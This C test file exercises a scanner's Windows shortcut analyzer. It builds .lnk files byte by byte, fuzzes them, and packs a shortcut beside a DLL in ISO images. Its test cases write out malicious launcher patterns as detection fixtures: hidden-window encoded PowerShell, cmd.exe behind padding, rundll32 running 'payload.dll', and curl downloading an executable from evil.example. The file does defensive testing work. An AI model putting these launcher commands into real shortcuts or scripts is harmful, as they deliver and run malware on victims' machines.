/*
 * test_lnk.c - Windows shortcuts (analyzers/an_lnk.c): shortcuts built byte by byte here
 * (a plain program, PowerShell with a hidden window and an encoded command, cmd behind
 * padding, ANSI strings and the environment block), truncations and byte flips that must
 * not crash, and an ISO image holding a shortcut next to a DLL (made with genisoimage).
 */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "testutil.h"

#define F_IDLIST 0x1
#define F_LINKINFO 0x2
#define F_RELPATH 0x8
#define F_WORKDIR 0x10
#define F_ARGS 0x20
#define F_ICON 0x40
#define F_UNICODE 0x80
#define F_EXPSTRING 0x200

struct lnk_spec {
    const char *target;  /* LinkInfo local base path (ANSI), NULL: no LinkInfo */
    const char *args;    /* NULL: none */
    size_t pad;          /* spaces in front of the arguments */
    const char *workdir; /* NULL: none */
    const char *icon;    /* NULL: none */
    const char *env;     /* EnvironmentVariableDataBlock target, NULL: none */
    unsigned show;
    int ansi;            /* strings in the code page rather than UTF-16 */
};

static void put_u16(struct tu_bytes *b, unsigned v)
{
    uint8_t p[2] = {(uint8_t)v, (uint8_t)(v >> 8)};
    tu_bytes_put(b, p, 2);
}

static void put_u32(struct tu_bytes *b, uint32_t v)
{
    uint8_t p[4];
    tu_put_u32le(p, v);
    tu_bytes_put(b, p, 4);
}

/* A StringData entry: count of characters, then the characters. */
static void put_string(struct tu_bytes *b, const char *s, size_t pad, int ansi)
{
    size_t n = strlen(s) + pad;
    put_u16(b, (unsigned)n);
    for (size_t i = 0; i < n; i++) {
        uint8_t c = i < pad ? ' ' : (uint8_t)s[i - pad];
        if (ansi)
            tu_bytes_put(b, &c, 1);
        else
            put_u16(b, c);
    }
}

static void build(struct tu_bytes *b, const struct lnk_spec *s)
{
    static const uint8_t clsid[16] = {0x01, 0x14, 0x02, 0, 0, 0, 0, 0,
                                      0xC0, 0,    0,    0, 0, 0, 0, 0x46};
    uint32_t flags = F_IDLIST | (s->target ? F_LINKINFO : 0) | (s->args ? F_ARGS : 0) |
                     (s->workdir ? F_WORKDIR : 0) | (s->icon ? F_ICON : 0) |
                     (s->ansi ? 0 : F_UNICODE) | (s->env ? F_EXPSTRING : 0);
    uint8_t h[0x4C] = {0};
    tu_put_u32le(h, 0x4C);
    memcpy(h + 4, clsid, 16);
    tu_put_u32le(h + 0x14, flags);
    tu_put_u32le(h + 0x3C, s->show ? s->show : 1);
    tu_bytes_put(b, h, sizeof h);
    /* An IDList the parser must skip by its size: one opaque item and the terminator. */
    put_u16(b, 2 + 6 + 2);
    put_u16(b, 6 + 2);
    tu_bytes_put(b, "\x1F\x50\xAA\xBB\xCC\xDD", 6);
    put_u16(b, 0);
    if (s->target) {
        size_t tl = strlen(s->target) + 1;
        uint32_t hsize = 0x1C, vol = hsize, vlen = 0x11, base = vol + vlen;
        put_u32(b, (uint32_t)(base + tl + 1));
        put_u32(b, hsize);
        put_u32(b, 1); /* VolumeIDAndLocalBasePath */
        put_u32(b, vol);
        put_u32(b, base);
        put_u32(b, 0);
        put_u32(b, (uint32_t)(base + tl)); /* common path suffix: "" */
        put_u32(b, vlen);
        put_u32(b, 3); /* fixed drive */
        put_u32(b, 0x1234);
        put_u32(b, 0x10);
        tu_bytes_put(b, "", 1);
        tu_bytes_put(b, s->target, tl);
        tu_bytes_put(b, "", 1);
    }
    if (s->workdir)
        put_string(b, s->workdir, 0, s->ansi);
    if (s->args)
        put_string(b, s->args, s->pad, s->ansi);
    if (s->icon)
        put_string(b, s->icon, 0, s->ansi);
    if (s->env) {
        uint8_t blk[0x314] = {0};
        tu_put_u32le(blk, 0x314);
        tu_put_u32le(blk + 4, 0xA0000001u);
        for (size_t i = 0; s->env[i] && i < 259; i++) {
            blk[8 + i] = (uint8_t)s->env[i];
            blk[8 + 260 + 2 * i] = (uint8_t)s->env[i];
        }
        tu_bytes_put(b, blk, sizeof blk);
    }
    put_u32(b, 0); /* terminal block */
}

static int severity_of(const fg_result *r, const char *suffix, const char *id)
{
    const struct fg_object_info *o = tu_object(r, suffix);
    int sev = -1;
    for (size_t i = 0; o && i < o->nfindings; i++)
        if (!strcmp(o->findings[i].id, id) && (int)o->findings[i].severity > sev)
            sev = (int)o->findings[i].severity;
    return sev;
}

struct lcase {
    const char *what;
    struct lnk_spec spec;
    int sev; /* of lnk.suspicious; -1: none */
    int alt; /* another accepted severity, or -1 */
};

static const struct lcase cases[] = {
    {"benign program",
     {.target = "C:\\Program Files\\App\\app.exe", .workdir = "C:\\Program Files\\App",
      .icon = "C:\\Program Files\\App\\app.exe"},
     -1, -1},
    {"benign, ANSI strings",
     {.target = "C:\\Program Files\\App\\app.exe", .args = "--open report.txt", .ansi = 1},
     -1, -1},
    {"powershell hidden encoded",
     {.target = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      .args = "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
      .icon = "%SystemRoot%\\System32\\shell32.dll,70"},
     FG_SEV_HIGH, -1},
    {"cmd with padding",
     {.target = "C:\\Windows\\System32\\cmd.exe", .args = "/c start invoice.pdf & calc.exe",
      .pad = 2000},
     FG_SEV_HIGH, FG_SEV_MEDIUM},
    {"mshta plain", {.target = "C:\\Windows\\System32\\mshta.exe", .args = "page.hta"},
     FG_SEV_MEDIUM, -1},
    {"rundll32 minimised", {.target = "C:\\Windows\\System32\\rundll32.exe",
                            .args = "payload.dll,Start", .show = 7},
     FG_SEV_HIGH, -1},
    {"env block target with URL",
     {.env = "%windir%\\system32\\curl.exe", .args = "-o x.exe https://evil.example/x.exe",
      .ansi = 1},
     FG_SEV_HIGH, -1},
    {"padding alone", {.target = "C:\\Program Files\\App\\app.exe", .args = "x", .pad = 1500},
     FG_SEV_MEDIUM, -1},
};

static void test_cases(void **state)
{
    (void)state;
    fg_engine *e = tu_engine(NULL);
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        const struct lcase *c = &cases[i];
        struct tu_bytes b = {0};
        build(&b, &c->spec);
        fg_result *r = tu_scan(e, "shortcut.lnk", b.p, b.len);
        const struct fg_object_info *o = tu_object(r, NULL);
        int sev = severity_of(r, NULL, "lnk.suspicious");
        int ok = o && !strcmp(o->type, "lnk") && tu_has_finding(r, "lnk.target") &&
                 (sev == c->sev || (c->alt >= 0 && sev == c->alt));
        if (c->sev < 0)
            ok = ok && fg_result_verdict(r) == FG_VERDICT_CLEAN;
        if (c->sev == FG_SEV_HIGH)
            ok = ok && fg_result_verdict(r) == FG_VERDICT_MALICIOUS;
        if (!ok) {
            print_message("case '%s' failed (severity %d)\n", c->what, sev);
            tu_dump(r);
        }
        assert_true(ok);
        fg_result_free(r);
        free(b.p);
    }
    fg_engine_free(e);
}

/* The target, arguments and working directory reach the evidence, converted to UTF-8. */
static void test_evidence(void **state)
{
    (void)state;
    fg_engine *e = tu_engine(NULL);
    struct tu_bytes b = {0};
    struct lnk_spec s = {.target = "C:\\Windows\\System32\\cmd.exe", .args = "/c echo hi",
                         .workdir = "C:\\Temp"};
    build(&b, &s);
    fg_result *r = tu_scan(e, "a.lnk", b.p, b.len);
    const struct fg_object_info *o = tu_object(r, NULL);
    int seen = 0;
    for (size_t i = 0; o && i < o->nfindings; i++)
        if (!strcmp(o->findings[i].id, "lnk.target") && o->findings[i].evidence &&
            strstr(o->findings[i].evidence, "cmd.exe") &&
            strstr(o->findings[i].evidence, "/c echo hi") &&
            strstr(o->findings[i].evidence, "C:\\Temp"))
            seen = 1;
    if (!seen)
        tu_dump(r);
    assert_true(seen);
    fg_result_free(r);
    free(b.p);
    fg_engine_free(e);
}

/* Every truncation, and every byte flipped, of a shortcut with all parts: no crash (the
 * sanitizers catch a read out of bounds). */
static void scan_quiet(fg_scanner *sc, const uint8_t *d, size_t n, size_t where)
{
    fg_result *r = NULL;
    int rc = fg_scan_mem(sc, "t.lnk", d, n, &r);
    if (rc)
        print_message("scan of %zu bytes (change at %zu) returned %d: %s\n", n, where, rc,
                      fg_strerror(rc));
    assert_int_equal(rc, 0);
    fg_result_free(r);
}

static void test_damage(void **state)
{
    (void)state;
    fg_engine *e = tu_engine(NULL);
    fg_scanner *sc = NULL;
    assert_int_equal(fg_scanner_new(e, &sc), FG_OK);
    struct tu_bytes b = {0};
    struct lnk_spec s = {.target = "C:\\Windows\\System32\\cmd.exe", .args = "/c calc",
                         .workdir = "C:\\Temp", .icon = "shell32.dll",
                         .env = "%COMSPEC%"};
    build(&b, &s);
    for (size_t n = 0; n <= b.len; n += n < 0x200 ? 1 : 7)
        scan_quiet(sc, b.p, n, n);
    uint8_t *copy = malloc(b.len);
    assert_non_null(copy);
    static const uint8_t flips[] = {0xFF, 0x80, 0x01, 0x00, 0x7F};
    for (size_t i = 0; i < b.len; i += i < 0x200 ? 1 : 5)
        for (size_t k = 0; k < sizeof flips; k++) {
            memcpy(copy, b.p, b.len);
            copy[i] ^= flips[k] ? flips[k] : copy[i];
            scan_quiet(sc, copy, b.len, i);
        }
    free(copy);
    free(b.p);
    fg_scanner_free(sc);
    fg_engine_free(e);
}

/* An ISO holding a shortcut and a DLL: the image is flagged, and so is the shortcut. */
static void test_iso(void **state)
{
    (void)state;
    if (system("command -v genisoimage >/dev/null 2>&1") != 0)
        skip();
    assert_int_equal(system("mkdir -p img/sub"), 0);
    struct tu_bytes b = {0};
    struct lnk_spec s = {.target = "C:\\Windows\\System32\\rundll32.exe",
                         .args = "sub\\helper.dll,Run"};
    build(&b, &s);
    FILE *f = fopen("img/Invoice.lnk", "wb");
    assert_non_null(f);
    fwrite(b.p, 1, b.len, f);
    fclose(f);
    free(b.p);
    tu_write("img/sub/helper.dll", "MZ not really a dll\n");
    tu_write("img/readme.txt", "hello\n");
    assert_int_equal(system("genisoimage -quiet -J -R -o t.iso img >/dev/null 2>&1"), 0);
    assert_int_equal(system("genisoimage -quiet -o plain.iso img/sub >/dev/null 2>&1"), 0);

    fg_engine *e = tu_engine(NULL);
    size_t n;
    uint8_t *d = tu_read("t.iso", &n);
    fg_result *r = tu_scan(e, "t.iso", d, n);
    int ok = severity_of(r, NULL, "lnk.iso-delivery") == FG_SEV_HIGH &&
             tu_object_has(r, ".lnk", "lnk.in-image") && tu_object_has(r, ".lnk", "lnk.target");
    if (!ok)
        tu_dump(r);
    assert_true(ok);
    fg_result_free(r);
    free(d);

    /* A DLL without a shortcut is not the pattern. */
    d = tu_read("plain.iso", &n);
    r = tu_scan(e, "plain.iso", d, n);
    ok = !tu_has_finding(r, "lnk.iso-delivery");
    if (!ok)
        tu_dump(r);
    assert_true(ok);
    fg_result_free(r);
    free(d);
    fg_engine_free(e);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_cases, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_evidence, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_damage, tu_tmpdir_setup, tu_tmpdir_teardown),
        cmocka_unit_test_setup_teardown(test_iso, tu_tmpdir_setup, tu_tmpdir_teardown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
